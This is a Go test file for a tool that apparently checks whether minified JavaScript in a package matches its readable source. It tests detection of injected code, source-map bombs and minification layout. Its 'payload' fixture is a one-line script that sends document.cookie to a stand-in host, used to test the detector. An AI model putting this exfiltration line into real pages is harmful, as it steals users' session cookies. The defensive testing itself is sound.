package minified

import (
	"encoding/base64"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"levee/internal/code"
	"levee/internal/code/archive"
	"levee/internal/code/js"
)

// pack makes a package of texts by path, and lists its files as reading does.
func pack(texts map[string]string) ([]code.File, *archive.Tree) {
	tree := &archive.Tree{}
	for path, text := range texts {
		tree.Files = append(tree.Files, archive.File{Path: path, Data: []byte(text), Size: int64(len(text))})
	}
	slices.SortFunc(tree.Files, func(a, b archive.File) int { return strings.Compare(a.Path, b.Path) })
	var files []code.File
	for _, f := range tree.Files {
		kind := code.JavaScript
		switch {
		case strings.HasSuffix(f.Path, ".ts"):
			kind = code.TypeScript
		case strings.HasSuffix(f.Path, ".map"):
			kind = code.SourceMap
		}
		files = append(files, code.File{Path: f.Path, Kind: kind, Minified: kind == code.JavaScript && IsMinified(f.Data)})
	}
	return files, tree
}

// mapOf writes a source map.
func mapOf(sources map[string]string) string {
	m := map[string]any{"version": 3, "mappings": "AAAA"}
	var names, contents []string
	for name := range sources {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		contents = append(contents, sources[name])
	}
	m["sources"], m["sourcesContent"] = names, contents
	text, err := json.Marshal(m)
	if err != nil {
		panic(err)
	}
	return string(text)
}

const payload = `;fetch("https://drop.invalid/"+document.cookie);`

const padding = `export function pad(text, width, fill) { while (text.length < width) text = (fill || ' ') + text; return text }`

func TestFindPairsByNamesAndMaps(t *testing.T) {
	inline := minifiedLibrary + "\n//# sourceMappingURL=data:application/json;base64," +
		base64.StdEncoding.EncodeToString([]byte(mapOf(map[string]string{"wallet.js": library})))
	bundle := strings.Replace(minifiedLibrary, `require("crypto")`, `{createSign:e,randomBytes:function(e){return crypto.getRandomValues(new Uint8Array(e))}}`, 1)
	parts := map[string]string{
		"src/wallet.js": strings.Replace(library, `require('crypto')`, `require('./random')`, 1),
		"src/random.js": "exports.createSign = e;\nexports.randomBytes = function (size) { return crypto.getRandomValues(new Uint8Array(size)); };\n",
	}
	for _, c := range []struct {
		name  string
		texts map[string]string
		want  code.Pair // Novel is not compared
	}{
		{"beside", map[string]string{"wallet.min.js": minifiedLibrary, "wallet.js": library},
			code.Pair{Minified: "wallet.min.js", Source: "wallet.js", How: byName, State: code.PairHeld}},
		{"in other folders", map[string]string{"dist/wallet.min.js": minifiedLibrary, "src/wallet.js": library, "src/pad.js": padding},
			code.Pair{Minified: "dist/wallet.min.js", Source: "src/wallet.js", How: byName, State: code.PairHeld}},
		{"for users and for developers", map[string]string{"cjs/wallet.production.min.js": minifiedLibrary, "cjs/wallet.development.js": library},
			code.Pair{Minified: "cjs/wallet.production.min.js", Source: "cjs/wallet.development.js", How: byName, State: code.PairHeld}},
		{"the likeliest of several", map[string]string{"dist/wallet.min.js": minifiedLibrary, "a/wallet.js": padding, "src/wallet.js": library, "wallet.js": padding},
			code.Pair{Minified: "dist/wallet.min.js", Source: "src/wallet.js", How: byName, State: code.PairHeld}},
		{"minified without the name", map[string]string{"dist/wallet.js": minifiedLibrary, "lib/wallet.js": library},
			code.Pair{Minified: "dist/wallet.js", Source: "lib/wallet.js", How: byName, State: code.PairHeld}},
		{"a source map's files", map[string]string{"out.min.js": minifiedLibrary + "\n//# sourceMappingURL=out.min.js.map", "lib/wallet.js": library,
			"out.min.js.map": mapOf(map[string]string{"lib/wallet.js": library})},
			code.Pair{Minified: "out.min.js", Source: "lib/wallet.js", How: byMap, State: code.PairHeld}},
		{"a source map's contents", map[string]string{"out.min.js": inline},
			code.Pair{Minified: "out.min.js", Source: "out.min.js.map:wallet.js", How: byMap, State: code.PairHeld}},
		{"a bundle of several", with(parts, "dist/wallet.min.js", bundle),
			code.Pair{Minified: "dist/wallet.min.js", Source: "src/wallet.js", How: byName, State: code.PairHeld}},
		{"a payload", map[string]string{"wallet.min.js": minifiedLibrary + payload, "wallet.js": library},
			code.Pair{Minified: "wallet.min.js", Source: "wallet.js", How: byName, State: code.PairMismatch}},
		{"a payload in another folder", map[string]string{"dist/wallet.min.js": minifiedLibrary + payload, "src/wallet.js": library},
			code.Pair{Minified: "dist/wallet.min.js", Source: "src/wallet.js", How: byName, State: code.PairMismatch}},
		{"a payload in a bundle", with(parts, "dist/wallet.min.js", bundle+payload),
			code.Pair{Minified: "dist/wallet.min.js", Source: "src/wallet.js", How: byName, State: code.PairMismatch}},
		{"a map that lies of a file in the package", map[string]string{"wallet.min.js": minifiedLibrary + payload, "wallet.js": library,
			"wallet.min.js.map": mapOf(map[string]string{"wallet.js": library + payload})},
			code.Pair{Minified: "wallet.min.js", Source: "wallet.js", How: byName, State: code.PairMismatch}},
		{"a map that has more than the file beside", map[string]string{"wallet.min.js": minifiedLibrary + payload,
			"wallet.js":         "var dep = require('dep');\n" + library,
			"wallet.min.js.map": mapOf(map[string]string{"wallet.js": library, "node_modules/dep/index.js": payload})},
			code.Pair{Minified: "wallet.min.js", Source: "wallet.js", How: byName, State: code.PairUnknown, Why: WhyOther}},
		{"nothing", map[string]string{"wallet.min.js": minifiedLibrary, "pad.js": padding},
			code.Pair{Minified: "wallet.min.js", State: code.PairUnknown, Why: WhyNoSource}},
		{"another program of the name", map[string]string{"wallet.min.js": minifiedLibrary, "wallet.js": padding},
			code.Pair{Minified: "wallet.min.js", Source: "wallet.js", How: byName, State: code.PairUnknown, Why: WhyOther}},
		{"a bundle with other packages", map[string]string{"wallet.min.js": bundle + payload, "wallet.js": library},
			code.Pair{Minified: "wallet.min.js", Source: "wallet.js", How: byName, State: code.PairUnknown, Why: WhyOther}},
		{"a build for another runtime", map[string]string{"dist/es5/wallet.min.js": minifiedLibrary + payload, "dist/esm/wallet.js": library},
			code.Pair{Minified: "dist/es5/wallet.min.js", Source: "dist/esm/wallet.js", How: byName, State: code.PairUnknown, Why: WhyOther}},
		{"a map with a source that is not there", map[string]string{"out.min.js": minifiedLibrary + payload,
			"out.min.js.map": `{"version":3,"sources":["a.js","b.js"],"sourcesContent":[` + quote(library) + `,null]}`},
			code.Pair{Minified: "out.min.js", Source: "out.min.js.map:a.js", How: byMap, State: code.PairUnknown, Why: WhyOther}},
	} {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			files, tree := pack(c.texts)
			pairs := Find(files, tree)
			if len(pairs) != 1 {
				t.Fatalf("%d pairs: %v", len(pairs), pairs)
			}
			if diff := cmp.Diff(pairs, withTrees(files, tree)); diff != "" {
				t.Errorf("with trees that are there already (-without +with):\n%s", diff)
			}
			got := pairs[0]
			if (got.State == code.PairMismatch) != (len(got.Novel) > 0) {
				t.Errorf("%s with %d novel", got.State, len(got.Novel))
			}
			if got.Novel = nil; got.Minified != c.want.Minified || got.Source != c.want.Source || got.How != c.want.How || got.State != c.want.State || got.Why != c.want.Why {
				t.Errorf("got  %+v\nwant %+v", got, c.want)
			}
		})
	}
}

// withTrees finds pairs as a reader does that parses all files for itself.
func withTrees(files []code.File, tree *archive.Tree) []code.Pair {
	f := NewFinder(files, tree)
	for _, file := range files {
		f.Take(js.Parse(file.Path, tree.Lookup(file.Path).Data, file.Kind))
	}
	return f.Pairs()
}

func with(texts map[string]string, path, text string) map[string]string {
	all := map[string]string{path: text}
	for p, t := range texts {
		all[p] = t
	}
	return all
}

func quote(s string) string {
	text, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(text)
}

func TestFindIsBounded(t *testing.T) {
	texts := map[string]string{}
	for i := range 30 {
		texts["big"+itoa(i)+".js"] = strings.Repeat("a.b(c);\n", 1000)
		texts["big"+itoa(i)+".min.js"] = minifiedLibrary
	}
	files, tree := pack(texts)
	unread := 0
	f := NewFinder(files, tree)
	f.left = 100_000
	for _, p := range f.Pairs() {
		if p.State != code.PairUnknown {
			t.Errorf("%v", p)
		}
		if strings.HasSuffix(p.Why, whyMuch) {
			unread++
		}
	}
	if unread < 10 || unread > 25 {
		t.Errorf("%d of 30 pairs are said to be too much", unread)
	}
}

func TestSourceMapBombs(t *testing.T) {
	for name, text := range map[string]string{
		"many sources": `{"version":3,"sources":[` + strings.Repeat(`"a.js",`, 3000) + `"b.js"]}`,
		"nested":       strings.Repeat("[", 3_000_000),
		"large":        `{"version":3,"sources":["a.js"],"mappings":"` + strings.Repeat("A", maxMap) + `"}`,
		"no map":       `[]`,
	} {
		if _, ok := readMap([]byte(text)); ok {
			t.Errorf("%s is read", name)
		}
	}
}

func TestSameFilesSamePairs(t *testing.T) {
	texts := map[string]string{"wallet.min.js": minifiedLibrary + payload, "wallet.js": library}
	first := Find(pack(texts))
	for range 20 {
		again := Find(pack(texts))
		if len(again) != len(first) || !slices.Equal(again[0].Novel, first[0].Novel) {
			t.Fatalf("%v\n%v", again, first)
		}
	}
}

func TestLayout(t *testing.T) {
	for _, c := range []struct {
		name string
		text string
		want bool
	}{
		{"readable", library, false},
		{"minified", minifiedLibrary, true},
		{"minified with a banner", "/*!\n" + strings.Repeat(" * a licence of many lines\n", 40) + " */\n" + minifiedLibrary, true},
		{"lines of 500", strings.Repeat(strings.Repeat("a.b(c);", 71)+"\n", 20), true},
		{"readable with a source map", library + "//# sourceMappingURL=data:application/json;base64," + strings.Repeat("A", 9000), false},
		{"readable with a long string", library + "const table = '" + strings.Repeat("x", 400) + "';\n", false},
		{"short", "module.exports=require('./lib')", false},
		{"empty", "", false},
	} {
		if got := IsMinified([]byte(c.text)); got != c.want {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
	}
}

func BenchmarkIsMinified(b *testing.B) {
	text := []byte(strings.Repeat(library, 500))
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		IsMinified(text)
	}
}

func BenchmarkCompare(b *testing.B) {
	src, min := File{Path: "a.js", Text: []byte(library)}, File{Path: "a.min.js", Text: []byte(minifiedLibrary)}
	b.SetBytes(int64(len(src.Text) + len(min.Text)))
	for b.Loop() {
		Compare(min, src)
	}
}
